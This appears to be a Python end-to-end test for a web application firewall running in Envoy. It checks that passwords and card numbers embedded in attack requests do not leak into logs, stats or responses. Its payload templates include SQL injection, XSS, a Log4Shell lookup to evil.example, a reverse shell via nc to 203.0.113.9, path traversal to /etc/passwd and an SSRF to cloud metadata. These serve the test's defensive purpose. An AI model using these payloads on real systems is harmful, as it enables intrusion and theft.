"""Nothing leaks: known secrets beside and inside attacks, and then a search for them in all that Envoy and backstop tell."""

import gzip
import hashlib
import json
import re
from urllib.parse import quote

from e2e.attacks import ATTACKS, BOUNDARY
from e2e.case import Case, config
from harness.bootstrap import Listener
from harness.envoy import TOLD_AFTER_S, eventually

SECRET = "Hush7x4Q"
CARD = "4111111111111111"
FORM = "application/x-www-form-urlencoded"

# How a secret stands in an attack.
SHAPES = {
    "before": "{}' UNION SELECT name, pass FROM users-- -",
    "after": "1' UNION SELECT '{}' FROM users-- -",
    "compared": "' OR '{0}'='{0}",
    "element": "<script>{}</script>",
    "attribute": "<img src={} onerror=alert(1)>",
    "lookup": "${{jndi:ldap://evil.example/{}}}",
    "command": ";cat {}|nc -e /bin/sh 203.0.113.9 4444",
    "file": "../../../{}/../../etc/passwd",
    "template": "{{{{{}.constructor.constructor('return 1')()}}}}",
    "program": "<?php system('{}'); ?>",
    "address": "http://{}@169.254.169.254/latest/meta-data/",
    "line": "{}\r\nSet-Cookie: session=1",
}


def _request(target="/", headers=(), body=None, content_type=None):
    headers = [*headers, *([("Content-Type", content_type)] if content_type else [])]
    return {"method": "POST" if body is not None else "GET", "target": target, "headers": headers, "body": body}


def _header(name, prefix=""):
    return lambda text: _request(headers=[(name, prefix + text.replace("\r\n", "%0d%0a"))])


def _cookie(name):
    return lambda text: _request(headers=[("Cookie", f"theme=dark; {name}={quote(text)}")])


def _json(make):
    return lambda text: _request("/n", body=json.dumps(make(text)), content_type="application/json")


def _body(make, content_type=None):
    return lambda text: _request("/n", body=make(text), content_type=content_type)


def _multipart(text):
    return f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="password"\r\n\r\n{text}\r\n--{BOUNDARY}--\r\n'


def _xml(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


# Where secrets stand.
PLACES = {
    "Authorization": _header("Authorization", "Bearer "),
    "Proxy-Authorization": _header("Proxy-Authorization", "Basic "),
    "X-Api-Key": _header("X-Api-Key"),
    "X-Origin-Verify": _header("X-Origin-Verify"),
    "cookie session": _cookie("session"),
    "cookie sid": _cookie("sid"),
    "cookie visitor": _cookie("visitor"),
    "query token": lambda text: _request("/?page=1&token=" + quote(text)),
    "query access_token": lambda text: _request("/?access_token=" + quote(text)),
    "query name of a secret": lambda text: _request("/?q=" + quote("password=" + text)),
    "address in the query": lambda text: _request("/?next=" + quote("/login?token=" + text)),
    "address of a page": _header("Referer", "https://shop.example/login?token="),
    "address in a header": _header("X-Original-Url", "/login?token="),
    "form": _body(lambda text: "user=anna&password=" + quote(text), FORM),
    "form behind 1,000 parameters": _body(lambda text: "a=1&" * 1_000 + "password=" + quote(text), FORM),
    "form in gzip": lambda text: {**_request("/n", [("Content-Encoding", "gzip")], content_type=FORM), "method": "POST", "body": gzip.compress(b"password=" + quote(text).encode())},
    "form without a type": _body(lambda text: "user=anna&password=" + quote(text)),
    "JSON": _json(lambda text: {"user": {"password": text}}),
    "JSON deep down": _json(lambda text: {"a" * 70: {"password": text}}),
    "JSON in JSON": _json(lambda text: {"payload": json.dumps({"password": text})}),
    "JSON past the depth": _body(lambda text: '{"a":' * 70 + json.dumps({"password": text}) + "}" * 70, "application/json"),
    "JSON that is broken": _body(lambda text: '{"user": anna, "password": ' + json.dumps(text), "application/json"),
    "JSON called a picture": _body(lambda text: json.dumps({"password": text}), "image/png"),
    "GraphQL": _json(lambda text: {"query": "mutation { login(password: " + json.dumps(text) + ") { id } }"}),
    "multipart": _body(_multipart, f"multipart/form-data; boundary={BOUNDARY}"),
    "multipart without a boundary": _body(_multipart, "text/plain"),
    "XML": _body(lambda text: f"<login><password>{_xml(text)}</password></login>", "application/xml"),
    "XML attribute": _body(lambda text: f'<login password="{_xml(text)}"/>', "application/xml"),
    "text": _body(lambda text: "my password: " + text, "text/plain"),
}  # fmt: skip
CARDS = {
    "query": lambda text: _request("/?q=" + quote(text)),
    "name in the query": lambda text: _request("/?" + quote(text) + "=1"),
    "path": lambda text: _request("/pay/" + quote(text, safe="")),
    "header": _header("X-Note"),
    "form": _body(lambda text: "note=" + quote(text), FORM),
    "JSON": _json(lambda text: {"note": text}),
    "JSON key": _json(lambda text: {text: 1}),
    "text": _body(lambda text: "a note: " + text, "text/plain"),
}
# As many rules as there are, every event, every header.
TALKATIVE = {
    "level": 4,
    "detectLevel": 4,
    "limits": [{"name": "all", "key": ["header:authorization", "cookie:session"], "rate": "1000000/s", "burst": 1000000}],
    "limitHeaders": "draft11",
    "handover": {"groups": [{"name": "all", "paths": [{"prefix": "/"}]}]},
    "origin": {"sha256": [hashlib.sha256(SECRET.encode()).hexdigest()], "exempt": [{"prefix": "/"}]},
}


class Secrets(Case):
    listeners = {
        "main": Listener(config(**TALKATIVE)),
        "detect": Listener(config(mode="detect", **TALKATIVE)),
    }

    def told(self):
        """All that can be read of Envoy and backstop, by name."""
        eventually(lambda: False, TOLD_AFTER_S, TOLD_AFTER_S)
        files = {file.name: file.read_text(errors="replace") for file in self.envoy.folder.glob("*.access.json")}
        pages = {path: self.envoy.get(path) for path in ("/stats?type=All", "/stats/prometheus", "/config_dump", "/clusters", "/listeners")}
        return {**files, **pages, "log": "\n".join(self.envoy.log_lines())}

    def answer(self, request, on):
        """What the client reads of a refusal, and of an answer of the application what backstop may have added."""
        response = self.send(**request, on=on)
        self.assertNotIn("x-backstop", str(response.headers))
        return f"{response.headers} {response.body if response.status != 200 else b''}"

    def assert_hidden(self, secrets, cases):
        before = {name: len(text) for name, text in self.told().items()}
        events = len(self.envoy.events())
        for on in ("main", "detect"):
            for name, request in cases.items():
                answer = self.answer(request, on)
                for secret in secrets:
                    self.assertNotIn(secret.lower(), answer.lower(), name)
        found = self.envoy.events()[events:]
        self.assertGreater(len(found), len(cases), "hardly an attack was found, so this shows nothing")
        leaks = {}
        for name, text in self.told().items():
            for line in (text if name.startswith("/") else text[before[name] :]).splitlines():
                if any(secret.lower() in line.lower() for secret in secrets):
                    place = re.search(r'"rule":"([^"]*)".*?"snippet":"(.*?)","target":"([^"]*)"', line)
                    leaks.setdefault(name, []).append(place.groups() if place else line[:300])
        self.assertEqual(leaks, {}, f"{sum(map(len, leaks.values()))} lines hold a secret")

    def test_secrets_inside_attacks(self):
        cases = {(place, shape): put(text.format(SECRET)) for place, put in PLACES.items() for shape, text in SHAPES.items()}
        self.assert_hidden([SECRET], cases)

    def test_secrets_beside_an_attack(self):
        cases = {}
        for place, put in PLACES.items():
            request = put(SECRET)
            cases[place] = {**request, "headers": [*request["headers"], ("X-Note", ATTACKS["log4shell"])]}
        self.assert_hidden([SECRET], cases)

    def test_card_numbers(self):
        spellings = [CARD, " ".join(re.findall("....", CARD)), "-".join(re.findall("....", CARD))]
        cases = {
            (place, shape, card): put(text.format(card))
            for place, put in CARDS.items()
            for shape, text in SHAPES.items()
            for card in spellings
        }
        self.assert_hidden([*spellings, spellings[1].replace(" ", "%20"), CARD[:12]], cases)

    def test_the_config_holds_the_digest(self):
        self.assertIn(hashlib.sha256(SECRET.encode()).hexdigest(), self.told()["/config_dump"])


class WrittenByMistake(Case):
    """A config with the secret itself where its digest belongs. Envoy's /config_dump repeats any config that it gets, so
    there it stands; backstop refuses the config, and does not repeat it."""

    listeners = {"main": Listener(config(origin={"sha256": [SECRET]}), dynamic=True)}

    def test_the_refusal_does_not_repeat_it(self):
        refusals = [line for line in self.envoy.log_lines() if "origin.sha256[0]" in line]
        self.assertTrue(refusals)
        self.assertNotIn(SECRET, "\n".join(self.envoy.log_lines()))
        self.assertEqual(self.send("GET", "/").status, 500)
